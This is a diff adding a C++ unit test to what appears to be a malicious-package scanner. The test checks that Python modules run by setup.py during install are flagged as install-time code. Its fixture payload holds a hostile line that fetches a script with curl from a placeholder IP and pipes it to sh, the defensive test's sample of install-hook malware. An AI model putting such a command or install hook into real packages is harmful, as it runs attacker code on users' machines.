@@ -144,6 +144,31 @@ TEST_F(ScannerTest, FileRunWithTheInterpreterIsPythonWhateverItsName) {
   EXPECT_FALSE(in_file(scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", not_run), "p-1/p/stamp"));
 }
 
+// A Python module that setup.py runs by path (exec of its text, runpy, the
+// interpreter; the path from the sdist root or from setup.py's folder) is
+// install-time code; a module elsewhere with the same base name is not.
+TEST_F(ScannerTest, PythonModuleRunBySetupIsInstallTimeCode) {
+  const std::string payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
+  auto at_install = [&](const ScanResult& r, const std::string& file) {
+    return std::any_of(r.findings.begin(), r.findings.end(), [&](const Finding& f) {
+      return f.file == file && f.phase == Phase::kInstall;
+    });
+  };
+  for (std::string run : {"exec(open('tools/gen.py').read())",
+                          "import runpy\nrunpy.run_path('./tools/gen.py')",
+                          "import subprocess, sys\nsubprocess.call([sys.executable, 'tools/gen.py'])"}) {
+    std::string tgz = testing::MakeTar(
+        {File("p-1/setup.py", run + "\nfrom setuptools import setup\nsetup(name='p')\n"),
+         File("p-1/tools/gen.py", payload)});
+    EXPECT_TRUE(at_install(scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", tgz), "p-1/tools/gen.py"))
+        << run;
+  }
+  std::string elsewhere = testing::MakeTar(
+      {File("p-1/setup.py", "exec(open('tools/gen.py').read())\n"), File("p-1/lib/gen.py", payload)});
+  EXPECT_FALSE(at_install(scanner_.ScanBytes("p-1.tar.gz", "p-1.tar.gz", elsewhere), "p-1/lib/gen.py"))
+      << "the same base name in another folder is another file";
+}
+
 // A script the package installs on PATH (a wheel's .data/scripts/) that
 // import-time code starts by name is import-time Python; a file elsewhere
 // started by name is not read as Python.
